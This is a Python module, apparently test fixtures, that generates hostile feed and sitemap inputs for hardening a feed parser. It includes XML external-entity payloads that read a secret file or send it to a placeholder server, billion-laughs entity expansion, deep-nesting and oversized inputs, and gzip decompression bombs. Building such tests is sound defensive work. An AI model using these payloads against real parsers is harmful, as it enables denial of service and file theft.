"""Feeds that are attacks. `%(file)s` stands for a file with a secret, `%(http)s` for a server that nobody may ask."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable

_ENTITY = '<?xml version="1.0"?><!DOCTYPE rss [%s]><rss version="2.0"><channel><title>x</title>%s</channel></rss>'
_ITEM = "<item><title>%s</title><link>https://example.net/news/1</link><guid>g</guid></item>"


def _rss(items: str, head: str = "") -> str:
    return f'<?xml version="1.0"?><rss version="2.0" {head}><channel><title>x</title>{items}</channel></rss>'


def _laughs() -> str:
    defined = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _ENTITY % (defined, _ITEM % "&l9;")


def _sitemap(urls: int, form: str = "<url><loc>https://example.net/%d</loc><lastmod>2024-03-10</lastmod></url>") -> str:
    return "<urlset>" + "".join(form % number for number in range(urls)) + "</urlset>"


def _namespaces() -> str:
    declared = " ".join(f'xmlns:n{n}="http://example.net/{n}"' for n in range(20_000))
    return _rss("".join(f"<n{n}:a {declared[:5_000]}>" for n in range(95)) + _ITEM % "x", declared)


def attacks(scale: float = 1.0) -> dict[str, Callable[[], str | bytes]]:
    """Attacks by name; those with `%(` in their text get addresses filled in. scale: of the sizes, up to 16 MB."""

    def many(count: int) -> int:
        return int(count * scale)

    return {
        "billion laughs": _laughs,
        "quadratic blowup": lambda: _ENTITY % (f'<!ENTITY a "{"a" * many(100_000)}">', _ITEM % ("&a;" * many(100_000))),
        "small entity, many references": lambda: (
            _ENTITY % (f'<!ENTITY a "{"a" * 80}">', _ITEM % ("&a;" * many(1_000_000)))
        ),
        "entity of entities in a guid": lambda: (
            _ENTITY % ('<!ENTITY a "1"><!ENTITY b "&a;&a;">', "<item><guid>&b;</guid><link>&b;</link></item>")
        ),
        "external entity, file": lambda: _ENTITY % ('<!ENTITY a SYSTEM "%(file)s">', _ITEM % "&a;"),
        "external entity, http": lambda: _ENTITY % ('<!ENTITY a SYSTEM "%(http)s/entity">', _ITEM % "&a;"),
        "external entity, public": lambda: _ENTITY % ('<!ENTITY a PUBLIC "-//x//y" "%(http)s/public">', _ITEM % "&a;"),
        "external parameter entity": lambda: _ENTITY % ('<!ENTITY %% p SYSTEM "%(http)s/p.dtd"> %%p;', _ITEM % "&a;"),
        "parameter entity that sends a file": lambda: (
            _ENTITY
            % (
                '<!ENTITY %% f SYSTEM "%(file)s"><!ENTITY %% e "<!ENTITY x SYSTEM \'%(http)s/?%%f;\'>">%%e;',
                _ITEM % "&x;",
            )
        ),
        "external document type": lambda: '<!DOCTYPE rss SYSTEM "%(http)s/rss.dtd">' + _rss(_ITEM % "&a;"),
        "document type in a file": lambda: '<!DOCTYPE rss SYSTEM "%(file)s">' + _rss(_ITEM % "&a;"),
        "XInclude": lambda: _rss(
            '<item><title><xi:include href="%(file)s" parse="text"/></title></item>',
            'xmlns:xi="http://www.w3.org/2001/XInclude"',
        ),
        "style sheet": lambda: (
            '<?xml version="1.0"?><?xml-stylesheet href="%(http)s/x.xsl" type="text/xsl"?>' + _rss(_ITEM % "x")
        ),
        "schema location": lambda: _rss(_ITEM % "x", 'xsi:schemaLocation="http://x %(http)s/x.xsd"'),
        "resources in the text": lambda: _rss(
            "<item><title>x</title><description><![CDATA[<link rel=stylesheet href=%(http)s/s><img src=%(http)s/i>"
            "<iframe src=%(file)s></iframe><object data=%(file)s></object>]]></description></item>"
        ),
        "addresses of files": lambda: _rss(
            "<item><link>%(file)s</link><guid>%(file)s</guid></item><item><link>javascript:alert(1)</link></item>"
        ),
        "deep elements": lambda: "<rss><channel><item>" + "<a>" * many(1_000_000),
        "deep elements, closed": lambda: "<rss><channel><item>" + "<a>" * 90 + "</b>" * many(300_000),
        "deep markup in a text": lambda: _rss(
            f"<item><description>{'&lt;div&gt;' * many(300_000)}</description></item>"
        ),
        "deep markup in sections": lambda: _rss(
            f"<item><description><![CDATA[{'<b><i>' * many(300_000)}]]></description></item>"
        ),
        "deep raw markup": lambda: _rss(f"<item><description>{'<p><b>' * many(300_000)}</description></item>"),
        "wide markup": lambda: _rss(
            f"<item><description><![CDATA[{'<p>x</p>' * many(300_000)}]]></description></item>"
        ),
        "wide lists of links": lambda: _rss(
            f"<item><description><![CDATA[{'<li><a href=x>اقرأ أيضا</a>' * many(100_000)}]]></description></item>"
        ),
        "labels in every element": lambda: _rss(
            f"<item><description><![CDATA[{'<div>اقرأ أيضا: ' * 20_000}]]></description></item>"
        ),
        "tables in tables": lambda: _rss(
            f"<item><description><![CDATA[{'<table><tr><td>' * many(100_000)}]]></description></item>"
        ),
        "many texts with deep markup": lambda: _rss(
            f"<item><description><![CDATA[{'<div>' * 2_000}]]></description></item>" * many(1_000)
        ),
        "namespaces": _namespaces,
        "a prefix for every tag": lambda: (
            "<rss><channel>" + "".join(f"<p{n}:title>x</p{n}:title>" for n in range(many(150_000)))
        ),
        "an attribute of 10 MB": lambda: _rss(f'<item a="{"x" * many(10_000_000)}"><title>x</title></item>'),
        "a million attributes": lambda: _rss("<item " + 'a="x" ' * many(1_000_000) + "><title>x</title></item>"),
        "attributes that never end": lambda: _rss("<item " + "a='x\" " * many(600_000)),
        "quotes that never end": lambda: _rss("<item><title>" + '<a href="' * many(600_000)),
        "sections in sections": lambda: _rss("<item><title>" + "<![CDATA[" * many(600_000) + "]]>" * many(600_000)),
        "sections that never end": lambda: _rss("<item><title><![CDATA[</title></item>" * many(150_000)),
        "sections with one end": lambda: _rss("<item><title><![CDATA[</title>" * many(150_000) + "]]>"),
        "comments in comments": lambda: _rss("<!-- <!-- " * many(600_000) + "--> -->" * many(100_000) + _ITEM % "x"),
        "comments that never end": lambda: _rss("<item><title><!--</title>" * many(200_000)),
        "instructions": lambda: _rss("<?x " * many(600_000) + "?>" + "<?y?>" * many(600_000)),
        "tags that never end": lambda: "<rss><channel><item>" + "<author " * many(600_000),
        "less-than signs": lambda: "<rss><channel><item><title>" + "<" * many(6_000_000),
        "ampersands": lambda: _rss(
            f"<item><title>{'&' * many(3_000_000)}</title><description>{'&' * many(3_000_000)}</description></item>"
        ),
        "references": lambda: _rss(f"<item><description>{'&#38;' * many(2_000_000)}</description></item>"),
        "names of entities": lambda: _rss(f"<item><description>{'&nosuch;' * many(1_000_000)}</description></item>"),
        "an author of at-signs": lambda: _rss(f"<item><author>{'a@' * many(1_000_000)}</author></item>"),
        "an author of brackets": lambda: _rss(f"<item><author>{'(a@b' * many(1_000_000)}</author></item>"),
        "authors": lambda: _rss(f"<item>{'<dc:creator>a</dc:creator>' * many(150_000)}</item>"),
        "links": lambda: _rss(f"<item>{'<link>http://example.net/</link>' * many(150_000)}</item>"),
        "guids": lambda: _rss(f"<item>{'<guid>a</guid>' * many(150_000)}</item>"),
        "dates": lambda: _rss(f"<item>{'<pubDate>10 Mar 1</pubDate>' * many(150_000)}</item>"),
        "contents": lambda: _rss(
            "<item>"
            + "".join(f"<content:encoded>&lt;p&gt;text {n}</content:encoded>" for n in range(many(80_000)))
            + "</item>"
        ),
        "channel titles": lambda: _rss("<title> </title>" * many(150_000)),
        "long texts everywhere": lambda: _rss(
            "<item><title>{0}</title><guid>{0}</guid><link>http://example.net/{0}</link><author>{0}</author>"
            "<category>{0}</category><pubDate>{0}</pubDate></item>".format("x" * many(2_000_000))
        ),
        "100,000 items": lambda: _rss(
            "".join(_ITEM.replace("/1<", f"/{n}<") % f"news {n}" for n in range(many(100_000)))
        ),
        "400,000 empty items": lambda: _rss("<item/>" * many(400_000)),
        "items in items": lambda: "<rss><channel>" + "<item><title>x</title>" * many(200_000),
        "a text of 16 MB": lambda: _rss(
            f"<item><description>{'text and words. ' * many(1_000_000)}</description></item>"
        ),
        "16 MB of texts": lambda: _rss(
            "".join(
                f"<item><title>n{n}</title><description>{'&lt;p&gt;text and words. ' * 600}</description></item>"
                for n in range(many(1_100))
            )
        ),
        "16 MB of elements": lambda: _rss("<a/>" * many(4_000_000)),
        "punycode": lambda: (
            ("<?xml version='1.0' encoding='punycode'?>" + _rss(_ITEM % "x")).encode()
            + b"\xff-"
            + b"a" * many(2_000_000)
        ),
        "JSON, deep": lambda: '{"items":' + "[" * many(1_000_000),
        "JSON, 100,000 items": lambda: json.dumps(
            {
                "version": "https://jsonfeed.org/version/1.1",
                "items": [{"id": str(n), "content_text": "x"} for n in range(many(100_000))],
            }
        ),
        "JSON, long number": lambda: (
            '{"version":"https://jsonfeed.org/version/1","items":[{"id":' + "9" * many(5_000_000) + "}]}"
        ),
        "JSON, wrong types": lambda: json.dumps(
            {
                "version": 7,
                "title": [],
                "hubs": {},
                "home_page_url": 3,
                "authors": 5,
                "items": [
                    {"content_html": {}, "tags": [{}], "authors": [[]], "url": [], "date_published": "x"},
                    3,
                    None,
                    [],
                    {},
                ],
            }
        ),
        "sitemap of 100,000 urls": lambda: _sitemap(many(100_000)),
        "sitemap of a calendar": lambda: _sitemap(60_000, "<url><loc>https://example.net/calendar?day=%d</loc></url>"),
        "sitemap of dates": lambda: "<urlset>" + f"<url><lastmod>{'9' * 60}</lastmod></url>" * 60_000,
        "index of 100,000 sitemaps": lambda: _sitemap(
            many(100_000), "<sitemap><loc>https://example.net/calendar/%d.xml</loc></sitemap>"
        ).replace("urlset", "sitemapindex"),
        "index that names itself": lambda: (
            "<sitemapindex><sitemap><loc>https://example.net/feed</loc></sitemap></sitemapindex>"
        ),
        "gzip of 80 MB": lambda: gzip.compress(b"<urlset>" + b" " * 80_000_000),
        "gzip in gzip": lambda: gzip.compress(gzip.compress(b"<urlset>" + b" " * many(20_000_000))),
        "gzip cut short": lambda: gzip.compress(_sitemap(5_000).encode())[:-2_000],
    }
